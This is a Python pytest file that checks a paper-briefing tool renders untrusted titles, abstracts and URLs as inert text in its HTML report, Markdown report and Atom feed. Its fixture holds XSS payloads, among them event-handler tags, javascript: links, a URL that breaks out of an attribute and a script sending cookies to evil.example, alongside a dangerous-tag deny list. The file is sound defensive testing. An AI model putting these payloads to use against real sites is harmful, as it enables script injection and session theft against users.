"""Untrusted text renders inert: paper titles, abstracts and URLs carrying `<script>`, HTML and Markdown
tricks come out of a real weekly run as text in the HTML report, and in the Markdown report as rendered
by a CommonMark renderer with raw HTML on and link checks off (what a permissive viewer would do)."""

from __future__ import annotations

import json
import re
from xml.etree import ElementTree
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from brief.app.runner import run_weekly
from brief.sources.window import parse_week

WATCHED = "Sergey Levine"  # on the demo config's watch-list: these papers are accepted offline
ATTACKS = [
    {"id": "2606.09901", "abs": "javascript:alert(6)",
     "title": '<script>alert("title")</script> Diffusion policies for robot manipulation',
     "summary": ('We study robot manipulation with diffusion policies. <img src=x onerror=alert(1)> and '
                 '<iframe src="javascript:alert(2)"></iframe> are ignored. Our method [click me](javascript:alert(3)) '
                 'and ![pixel](http://evil.example/p.png) improve grasping. <a href="javascript:alert(4)">x</a> '
                 '<script>document.location="http://evil.example/"+document.cookie</script> Results hold.')},
    {"id": "2606.09902", "abs": "https://arxiv.org/abs/2606.09902\" onmouseover=\"alert(7)",
     "title": "# Heading | injection | ` <style>body{display:none}</style>",
     "summary": ('Dexterous grasping with learned policies.\n\n## Fake section\n\n[ref]: javascript:alert(5)\n\n'
                 '<http://evil.example/auto> <!-- hidden comment --> **bold** `code` ~~strike~~ > quote '
                 '<svg onload=alert(8)></svg> [a][ref] We report strong results on real robots.')},
]
DANGEROUS_TAGS = {"script", "iframe", "img", "object", "embed", "form", "input", "base", "svg", "math"}


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def problems(html_text: str, allow_style: int = 0, allow: frozenset[str] = frozenset()) -> list[str]:
    parser = Tags()
    parser.feed(html_text)
    found = []
    for tag, attrs in parser.tags:
        if tag in DANGEROUS_TAGS - allow:
            found.append(f"<{tag}>")
        found += [f"<{tag} {name}=>" for name in attrs if name.lower().startswith("on")]
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            url = (attrs.get(name) or "").strip()
            if re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*:", url) and not url.lower().startswith(("https:", "http:", "mailto:")):
                found.append(f"<{tag} {name}={url!r}>")
    styles = sum(1 for tag, _ in parser.tags if tag == "style")
    if styles > allow_style:
        found.append(f"{styles} <style> elements")
    return found


@pytest.fixture
def reports(settings, tmp_path):
    snap = tmp_path / "snap"
    snap.mkdir()
    lines = [json.dumps({**a, "authors": [WATCHED, "M. Allory"], "categories": ["cs.RO"]}) for a in ATTACKS]
    (snap / "2026-06-09_attack.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = run_weekly(settings, parse_week("2026-W24"), [f"snapshot:{snap}"])
    assert {p.id for p in result.state.accepted} == {a["id"] for a in ATTACKS}, "both attack papers are in the briefing"
    found = {fmt: (settings.out_dir / f"2026-W24.{fmt}").read_text(encoding="utf-8") for fmt in ("html", "md")}
    feeds = list(settings.out_dir.glob("*.atom"))
    found["feed"] = feeds[0].read_text(encoding="utf-8") if feeds else None
    return found


def test_html_report_renders_attacks_as_text(reports):
    html_text = reports["html"]
    # its own stylesheet is the one <style>; its chart is inline SVG (an injected one would carry onload=)
    assert problems(html_text, allow_style=1, allow=frozenset({"svg"})) == []
    assert "&lt;script&gt;alert(" in html_text, "the title is shown, as text"
    assert 'onmouseover="alert(7)"' not in html_text, "a quote in a URL can't close its attribute"


def test_markdown_report_renders_attacks_as_text(reports):
    md_text = reports["md"]
    renderer = MarkdownIt("commonmark", {"html": True})
    renderer.validateLink = lambda url: True  # a permissive viewer: let every link through, then look
    rendered = renderer.render(md_text)
    assert problems(rendered) == []
    assert "&lt;script&gt;" in rendered, "the script tag is shown, as text"
    headings = re.findall(r"<h[1-6]>(.*?)</h[1-6]>", rendered)
    assert not any(h.strip().startswith(("Heading", "Fake section")) for h in headings), headings
    assert "<!--" not in rendered, "no hidden comments"


def test_feed_entries_render_attacks_as_text(reports):
    if reports["feed"] is None:
        pytest.skip("this build writes no Atom feed")
    root = ElementTree.fromstring(reports["feed"])
    contents = [c.text or "" for c in root.iter("{http://www.w3.org/2005/Atom}content") if c.get("type") == "html"]
    assert contents, "the feed carries HTML content for a reader to render"
    for html_text in contents:  # what a feed reader renders
        assert problems(html_text) == []
